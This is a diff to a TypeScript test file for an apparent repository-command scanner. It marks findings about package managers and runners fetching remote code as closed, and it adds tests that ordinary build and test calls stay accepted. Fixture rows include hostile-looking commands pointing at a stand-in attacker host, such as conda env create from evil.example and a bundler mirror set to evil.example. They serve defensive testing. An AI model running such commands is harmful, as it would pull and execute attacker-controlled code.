@@ -222,6 +222,7 @@ const DENO_REMOTE_CLOSED: FindingRow[] = [
 // attacker's feed), `cpan -i`, `mise exec|x|use` (npm:/ubi: backends fetch and run), `pkgx` (runs any package),
 // `nix-shell -p`, `nix-env -i`, `mvn <groupId>:<plugin>:<version>:<goal>` (fetches a plugin from Central and runs it),
 // `cs launch` (Coursier), `scala-cli run <url>`, `volta install`, `proto install`, `ansible-galaxy install`.
+// Closed (session 46): OTHER_MANAGERS' verbs under a sub-command, mise's list of verbs, and a line per runner told what to fetch.
 const OTHER_RUNNERS: FindingRow[] = [
   SYSTEM('conda env create -f https://evil.example/env.yml'),
   SYSTEM('mamba env update -f https://evil.example/env.yml'),
@@ -413,6 +414,7 @@ const WINDOWS: FindingRow[] = [
 // named package (cabal/stack run Setup.hs, opam and nimble build scripts, conan and spack recipes are Python, raco,
 // `mix archive.install hex`, `dart pub global activate`, `flutter pub add`, vcpkg, guix), `zig fetch --save <url>`
 // (adds a dependency), the Clojure CLI given a dependency and run (`-Sdeps … -M -m`), `coursier launch`.
+// Closed (session 46): the other names on their managers' entries, the rest in OTHER_MANAGERS or a line of their own.
 const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
   SYSTEM('bundler add evil'),
   SYSTEM('bundler config set mirror.https://rubygems.org https://evil.example'),
@@ -561,7 +563,7 @@ describeFindings('attack-48', [
   ['B process calls not read', BACKTICK_CALLS],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
-  ['D other runners', OTHER_RUNNERS],
+  ['D other runners', closedRows(OTHER_RUNNERS)],
   ['E go flag spellings', GO_FLAG_SPELLINGS],
   ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
   ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
@@ -571,7 +573,7 @@ describeFindings('attack-48', [
   ['L pip in process', PIP_IN_PROCESS],
   ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
   ['N windows', WINDOWS],
-  ['P other managers not listed', OTHER_MANAGERS_NOT_LISTED],
+  ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
   ['O doctests configure', DOCTESTS_CONFIGURE],
   // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
   ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
@@ -629,6 +631,40 @@ describe('attack-48 H/I/J: ordinary environment and git calls stay accepted', ()
     ['src/check.py', "import os\nos.system('git clone . /tmp/copy')"],
     ['src/check.go', 'out, err := exec.Command("git", "config", "--get", "remote.origin.url").Output()'],
   ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
+
+/**
+ * Ordinary calls of the runners and managers D and P's fixes (session 46) named: what they print, test, build or run
+ * of the repository's own, and fetches of what its manifest declares (`flutter pub get`, `dotnet restore`).
+ */
+describe('attack-48 D/P: ordinary runner and manager calls stay accepted', () => {
+  it.each([
+    SYSTEM('conda list'),
+    SYSTEM('conda run -n test pytest'),
+    SYSTEM('conda env list'),
+    SYSTEM('dotnet test'),
+    SYSTEM('dotnet test -s test.runsettings'),
+    SYSTEM('dotnet build -c Release'),
+    SYSTEM('dotnet restore'),
+    SYSTEM('dotnet new console'),
+    SYSTEM('mise run test'),
+    LIST("'mise', 'run', 'lint'", ', check=True'),
+    SYSTEM('pixi run test'),
+    SYSTEM('mvn -B test'),
+    SYSTEM('mvn versions:display-dependency-updates'),
+    SYSTEM('cabal test'),
+    SYSTEM('stack build --test'),
+    SYSTEM('flutter pub get'),
+    SYSTEM('dart test'),
+    SYSTEM('mix test'),
+    SYSTEM('zig build test'),
+    SYSTEM('bundler exec rspec'),
+    SYSTEM('yarnpkg test'),
+    SYSTEM('nix-shell --run "make test"'),
+    SYSTEM('clojure -M:test'),
+    SYSTEM('opam exec -- dune test'),
+    SYSTEM('echo yay'),
+  ])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
 });
 
 /**
